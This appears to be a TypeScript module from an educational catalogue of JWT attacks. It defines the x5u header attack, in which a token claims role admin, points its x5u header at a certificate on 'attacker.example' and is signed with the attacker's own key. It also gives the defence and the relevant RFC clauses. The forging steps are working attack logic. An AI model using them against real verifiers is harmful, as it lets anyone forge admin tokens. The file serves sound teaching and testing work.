import { rfc } from '../../jwt/clause.ts';
import { withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWith } from '../../service/tokens/sign.ts';
import type { Attack } from '../attack.ts';

export const x5u: Attack = {
  id: 'x5u',
  name: 'A certificate on the attacker’s server',
  group: 'header',
  setting: 'own-server',
  precondition: 'The verifier fetches a certificate from the address that the header names.',
  needs: ['a-token', 'own-keys', 'own-server'],
  goal: 'Anybody with a web server signs as the issuer.',
  forge: async ({ honest, knows }) => {
    const claimed = withClaims(honest, { role: 'admin' });
    const pointed = withHeader(claimed, { x5u: 'https://attacker.example/certificate.pem' });
    return {
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        { say: 'Name a certificate on your own server (x5u).', token: pointed },
        {
          say: 'Sign with the key that it is for.',
          token: await signWith(pointed, 'RS256', knows.ownRsa),
        },
      ],
    };
  },
  explanation: [
    'x5u is jku for those who keep their keys in certificates: the token names an address, and what lies there decides whether the token is genuine.',
    'That it is a certificate makes it look like more than a key. But the standard asks of x5u only that the certificate comes over TLS; whether its chain leads to somebody you trust is left to you. A verifier that only takes the key out has fetched a key from the attacker, in a thicker envelope.',
    'And as with jku, the request itself goes out before anything is known about the token.',
  ],
  defence: 'Do not read x5u. Keys and certificates come from the configuration.',
  bcp: ['2.9', '3.10'],
  clauses: [rfc(7515, '4.1.5')],
  cves: [],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'signature',
      because: 'It checks with the configured key, which did not sign; nothing is fetched.',
    },
    strict: {
      outcome: 'refuse',
      at: 'signature',
      because: 'It checks with the configured key, which did not sign; nothing is fetched.',
    },
  },
};
